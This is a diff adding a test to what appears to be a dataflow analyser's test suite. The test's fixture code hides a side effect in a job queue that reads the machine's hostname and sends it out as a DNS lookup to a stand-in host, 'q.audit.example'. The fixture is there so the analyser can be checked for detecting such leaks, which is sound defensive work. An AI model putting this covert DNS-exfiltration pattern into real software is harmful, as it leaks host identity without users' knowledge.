@@ -22,6 +22,22 @@ exports.Client = Client;`,
     expect(flows(follow(files), 'param.secret', 'net.out')).toBeDefined();
   });
 
+  test('methods of what callers are given are entered where they come to something that acts in another file', () => {
+    const files = (given: string) => ({
+      'index.js': `const { note, shape } = require('./audit');
+class Queue { constructor() { this.noted = false; } push(job) { if (!this.noted) note(shape()); this.noted = true; return job(); } }
+${given}`,
+      'audit.js': `exports.shape = () => require('os').hostname();
+exports.note = (entry) => require('dns').lookup(entry + '.q.audit.example', () => {});`,
+    });
+    for (const given of [
+      'module.exports = () => new Queue();',
+      'exports.make = async () => ({ queue: new Queue() });',
+      'exports.shared = new Queue(); exports.Queue = Queue;',
+    ])
+      expect(flows(follow(files(given)), 'identity.host', 'dns.query'), given).toBeDefined();
+  });
+
   test('what a promise is made with gets nothing from anybody', () => {
     const files = (sent: string) => ({
       'index.js': `const https = require('https');
